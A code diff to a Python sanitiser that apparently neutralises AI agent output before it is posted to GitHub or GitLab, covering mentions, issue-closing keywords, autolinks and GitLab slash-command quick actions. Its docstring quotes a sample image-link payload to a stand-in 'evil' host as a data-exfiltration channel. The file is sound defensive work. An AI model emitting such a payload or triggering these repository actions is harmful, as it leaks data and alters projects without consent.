@@ -3,7 +3,7 @@
 The model's words, file names the agent chose, issue titles and error messages are data. Rendered as
 Markdown they could show an image (`![x](https://evil/?d=…)`: GitHub's image proxy fetches it as soon
 as someone views the page, an exfiltration channel even when the agent had no network), a link, raw
-HTML, ping people (`@someone`) or close other issues on merge (`fixes #12`). So:
+HTML, ping people (`@someone`) or close other issues on merge (`fixes #12`, GitLab's `implements #12`). So:
 
 - `fenced` puts multi-line text in a fenced code block whose backtick fence is longer than any run of
   backticks in the text: nothing inside renders (no image, link, autolink, HTML or mention);
@@ -17,13 +17,22 @@ from __future__ import annotations
 import re
 
 ZWSP = "\u200b"
-# GitHub's closing keywords, when a reference follows them (an issue number, owner/repo#N, GH-N or an
-# issue URL), up to a few characters of punctuation or markup apart.
+# The closing keywords of GitHub and of GitLab's default pattern (which adds closing, fixing, resolving
+# and implement(s|ed|ing)), when a reference follows them (an issue number, group/project#N, GH-N, a
+# Jira-style KEY-N or an issue URL; GitLab allows "issue(s)" in between), up to a few characters of
+# punctuation or markup apart.
 CLOSING_KEYWORD = re.compile(
-    r"\b(close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b(?=[\s:*_`'\"(\[]{0,12}(?:#|gh-\d|[\w.-]+/[\w.-]+#|https?:|www\.))",
+    r"\b(clos(?:e[sd]?|ing)|fix(?:e[sd]|ing)?|resolv(?:e[sd]?|ing)|implement(?:s|ed|ing)?)\b"
+    r"(?=[\s:*_`'\"(\[]{0,12}(?:issues?\s+)?"
+    r"(?:#|gh-\d|(?-i:[A-Z][A-Z0-9_]+-\d)|(?:[\w.-]+/)*[\w.-]+#|https?:|www\.))",
     re.IGNORECASE,
 )
 ISSUE_REFERENCE = re.compile(r"#(?=\d)")
+# GitLab runs a quick action (`/merge`, `/approve`, `/close` …) from any line of a note or description
+# that starts with a slash, as the user who posted it (gitbot), after deleting every carriage return;
+# its exceptions for code blocks are heuristics, not Markdown's. Such a line gets an invisible first
+# character (before the carriage returns GitLab deletes).
+QUICK_ACTION_LINE = re.compile(r"^(?=\r*/)", re.MULTILINE)
 AUTOLINK = re.compile(r"(?i)(?<=[a-z])(:)(?=//)|\b(www)(?=\.)")
 
 
@@ -31,6 +40,11 @@ def neutralise(text: str) -> str:
     """No mention pings anyone, no closing keyword closes anything (the text still reads the same)."""
     text = CLOSING_KEYWORD.sub(lambda m: m.group(0)[0] + ZWSP + m.group(0)[1:], text)
     return text.replace("@", "@" + ZWSP)
+
+
+def no_quick_actions(text: str) -> str:
+    """No line of `text` starts with a slash (it reads the same)."""
+    return QUICK_ACTION_LINE.sub(ZWSP, text)
 
 
 def fenced(text: str, info: str = "text") -> str:
